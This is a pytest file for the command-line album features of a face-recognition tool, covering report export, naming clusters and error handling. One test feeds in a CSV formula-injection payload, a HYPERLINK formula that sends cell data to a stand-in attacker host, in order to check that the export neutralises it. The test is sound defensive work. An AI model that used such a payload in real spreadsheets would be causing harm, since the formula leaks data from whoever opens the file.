"""`facerec album name / not / unfold / report` as a user types them (in-process CLI runner)."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

from typer.testing import CliRunner

from facerec.cli import app

OBAMA = "Barack Obama"


def run(*args: str) -> Any:
    return CliRunner().invoke(app, ["album", *args], catch_exceptions=False)


def exported(db: Path) -> dict[str, Any]:
    r = run("report", "--json", "-", "--db", str(db))
    assert r.exit_code == 0, r.output
    return json.loads(r.stdout)


def face_of(data: dict[str, Any], file: str) -> dict[str, Any]:
    photo = next(p for p in data["photos"] if Path(p["path"]).name == file)
    return photo["faces"][0]


def test_report_exports(album_copy: tuple[Any, Any], tmp_path: Path) -> None:
    _, built = album_copy
    data = exported(built.db)
    assert {p["name"] for p in data["people"]} == {OBAMA, "Joe Biden"}
    assert len(data["photos"]) == 17 and data["clusters"]
    errors = [p for p in data["photos"] if p["status"] == "error"]
    assert {Path(p["path"]).name for p in errors} == {"notes.jpg", "truncated.jpg"}

    out = tmp_path / "faces.csv"
    html = tmp_path / "report"
    r = run("report", "--csv", str(out), "--html", str(html), "--db", str(built.db))
    assert r.exit_code == 0, r.output
    rows = list(csv.DictReader(io.StringIO(out.read_text())))
    two = [r for r in rows if r["photo_path"].endswith("two_people.jpg")]
    assert sorted(r["person"] for r in two) == sorted([OBAMA, "Joe Biden"])
    assert all(r["similarity"] for r in two)
    assert any(r["photo_error"] for r in rows if r["photo_path"].endswith("notes.jpg"))
    page = (html / "index.html").read_text()
    assert OBAMA in page and "facerec album name" in page
    assert len(list((html / "faces").glob("*.jpg"))) == sum(len(p["faces"]) for p in data["photos"])

    r = run("report", "--db", str(built.db))
    assert r.exit_code == 2 and "--html" in r.stderr


def test_name_not_unfold_on_the_command_line(album_copy: tuple[Any, Any]) -> None:
    _, built = album_copy
    db = str(built.db)
    data = exported(built.db)
    cluster = face_of(data, "lin-manuel-miranda.png")["cluster"]
    r = run("name", str(cluster), "Lin-Manuel Miranda", "--db", db, "--json")
    assert r.exit_code == 0, r.output
    named = json.loads(r.stdout)
    assert named["added"] == 2 and named["name"] == "Lin-Manuel Miranda"
    assert face_of(exported(built.db), "lin_copy.jpg")["person"] == "Lin-Manuel Miranda"

    face = face_of(data, "obama2.jpg")
    assert face["person"] == OBAMA
    r = run("not", str(face["id"]), OBAMA, "--db", db)
    assert r.exit_code == 0, r.output
    assert "is not Barack Obama (its match was undone)" in r.stdout
    assert face_of(exported(built.db), "obama2.jpg")["person"] is None

    r = run("unfold", OBAMA, "--db", db, "--json")
    assert r.exit_code == 0 and json.loads(r.stdout)["unfolded"] == 0

    # Anticipated mistakes: one line on stderr, exit code 2.
    for args, message in [
        (("name", "999999", "X"), "no album cluster 999999"),
        (("not", "999999", OBAMA), "no album face 999999"),
        (("not", str(face["id"]), "Nobody"), "no person named 'Nobody'"),
        (("unfold", "Nobody"), "no person named 'Nobody'"),
        (("name", str(face_of(data, "alex-lacamoire.png")["cluster"]), "  "), "must not be empty"),
    ]:
        r = run(*args, "--db", db)
        assert r.exit_code == 2, (args, r.output)
        assert message in r.stderr, (args, r.stderr)


def test_a_formula_as_a_name_is_not_a_formula_in_the_csv(
    album_copy: tuple[Any, Any], tmp_path: Path
) -> None:
    _, built = album_copy
    db = str(built.db)
    cluster = face_of(exported(built.db), "lin-manuel-miranda.png")["cluster"]
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    r = run("name", str(cluster), formula, "--db", db)
    assert r.exit_code == 0, r.output
    out = tmp_path / "faces.csv"
    assert run("report", "--csv", str(out), "--db", db).exit_code == 0
    text = out.read_text()
    rows = list(csv.DictReader(io.StringIO(text)))
    named = [r for r in rows if r["photo_path"].endswith("lin-manuel-miranda.png")]
    assert [r["person"] for r in named] == ["'" + formula]
    # No cell of the file starts with a formula character (negative numbers aside).
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
            assert not cell.startswith("-") or float(cell) < 0, cell
